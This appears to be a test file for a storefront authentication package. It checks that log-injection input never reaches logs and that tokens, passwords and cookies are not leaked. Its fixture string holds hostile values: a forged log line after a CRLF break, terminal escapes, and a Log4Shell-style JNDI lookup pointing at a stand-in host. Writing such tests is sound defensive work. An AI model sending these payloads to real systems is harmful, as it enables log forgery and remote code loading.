import assert from 'node:assert/strict'
import { execFile } from 'node:child_process'
import { subscribe, unsubscribe } from 'node:diagnostics_channel'
import { promisify } from 'node:util'
import type { Logger } from '../../src/index.ts'
import { channels } from '../support/channels.ts'
import { kiboWire } from '../support/kibo-wire.ts'
import { loginOf, signedUp, staleMs } from '../support/shoppers.ts'
import { secret, somebody, storefronts } from '../support/storefront.ts'

/** Lines, colours and placeholders of one logger or another. */
const planted = 'planted\r\nlevel=error userId=admin \u001b[2K\u2028 %s %o {{x}} $' + '{jndi:ldap://evil.test}'

describe('what a visitor writes to plant lines in a log', () => {
  const open = storefronts()
  const lines: string[] = []
  const note = (from: string) => (message: unknown, more: unknown) =>
    void lines.push(JSON.stringify([from, message, more]))
  const listen = note('channel')
  const logger: Logger = { debug: note('debug'), info: note('info'), warn: note('warn'), error: note('error') }

  before(() => {
    for (const channel of channels) subscribe(channel, listen)
  })
  after(() => {
    for (const channel of channels) unsubscribe(channel, listen)
  })

  it('is in none of them, nor in what is published: names, codes, addresses, fields, headers and cookies', async () => {
    const shop = await open({
      options: { logger },
      prepare: (app) => app.set('trust proxy', true),
      routes: { rateLimit: { perLogin: 1 } },
    })
    const header = planted.replaceAll(/[^\x20-\x7e]/g, ' ')
    const headers = {
      ...Object.fromEntries(
        ['user-agent', 'referer', 'x-forwarded-for', 'x-forwarded-host'].map((name) => [name, header]),
      ),
      cookie: `kibo_shopper=${encodeURIComponent(planted)}; kibo_shopper_2fa=${encodeURIComponent(planted)}`,
    }
    const address = `${planted.replaceAll(/[\s@]/g, '')}@example.com`
    const bodies: [path: string, body: Record<string, unknown>][] = [
      ['login', { username: planted, password: planted, fingerprint: planted, region: planted, [planted]: planted }],
      ['login', { username: 5, [planted]: planted }],
      ['signup', { emailAddress: address, userName: planted, password: planted, firstName: planted }],
      ['two-factor/verify', { code: planted.slice(0, 60) }],
      ['otp/verify', { emailAddress: address, code: planted.slice(0, 60) }],
      ['password/forgot', { emailAddress: address, userName: planted }],
      ['password/reset', { userName: planted, confirmationCode: planted, newPassword: planted }],
      ['logout', { returnTo: planted }],
    ]
    const postAll = async () => {
      for (const [path, body] of [...bodies, ...bodies.slice(0, 1)])
        await shop.browser().post(`/auth/${path}`, body, headers)
    }

    await postAll()
    shop.sandbox.fail({ kind: 'html', status: 503, times: 100 })
    await postAll()

    assert.ok(lines.some((line) => line.includes('"refused"')) && lines.some((line) => line.includes('"failed"')))
    for (const line of lines) assert.doesNotMatch(line, /planted|jndi|admin|evil\.test|\\u001b|\\u2028|[\r\n]/i)
  })
})

describe('what the package writes', () => {
  const open = storefronts()

  it('logs no secret, in an outage either', async () => {
    const lines: string[] = []
    const note = (...parts: unknown[]) => lines.push(JSON.stringify(parts))
    const wire = kiboWire()
    const shop = await open({
      options: { logger: { debug: note, info: note, warn: note, error: note }, kibo: { fetch: wire.fetch } },
    })
    const me = somebody()
    const browser = await signedUp(shop, me)
    const { claims } = (await browser.get('/claims')).json
    shop.sandbox.advance(staleMs)
    for (const kind of ['refuse', 'error-body', 'html'] as const) {
      shop.sandbox.fail({ kind, operation: 'refreshUserAuthTicket', ...(kind === 'error-body' && { status: 500 }) })
      await browser.get('/')
    }
    await browser.post('/auth/login', { ...loginOf(me), password: 'a wrong password' })
    const refreshToken = /refreshToken=(\w+)/.exec(wire.calls.join())?.[1]

    assert.ok(lines.length >= 4 && refreshToken)
    for (const told of [
      claims,
      refreshToken,
      me.password,
      'a wrong password',
      me.emailAddress,
      secret,
      'refreshToken=',
    ]) {
      assert.ok(!lines.join().includes(told))
    }
  })

  it('prints nothing of its own, not even with DEBUG=*', async () => {
    const script = `
      import express from 'express'
      import { storefrontAuth, authRoutes } from './src/index.ts'
      import { createSandbox } from './src/sandbox/index.ts'
      const sandbox = await createSandbox()
      const app = express().use(storefrontAuth({ kibo: sandbox.kibo, secret: '${secret}' })).use('/auth', authRoutes())
      const server = app.listen(0, '127.0.0.1', async () => {
        const url = 'http://127.0.0.1:' + server.address().port
        const body = JSON.stringify({ emailAddress: 'ada@example.com', password: 'hunter2-hunter2' })
        const response = await fetch(url + '/auth/signup', { method: 'POST', headers: { 'content-type': 'application/json' }, body })
        console.log('done ' + response.status)
        for (const call of sandbox.calls) console.log('SECRET ' + (call.headers['x-vol-user-claims'] ?? ''))
        console.log('COOKIE ' + response.headers.getSetCookie().at(-1).split(';')[0].split('=')[1])
        server.closeAllConnections(); server.close(); await sandbox.close()
      })`
    const { stdout, stderr } = await promisify(execFile)(
      process.execPath,
      ['--import=tsx', '--input-type=module', '-e', script],
      { cwd: new URL('../..', import.meta.url).pathname, env: { ...process.env, DEBUG: '*', NODE_DEBUG: '' } },
    )

    assert.match(stdout, /^done 201$/m)
    const secrets = Array.from(stdout.matchAll(/^(?:SECRET|COOKIE) (\S{20,})$/gm), ([, value = '']) => value)
    assert.ok(secrets.length >= 2)
    for (const one of [...secrets, 'hunter2', secret]) assert.ok(!stderr.includes(one))
    assert.doesNotMatch(stderr, /kibo-storefront-auth/)
  })
})
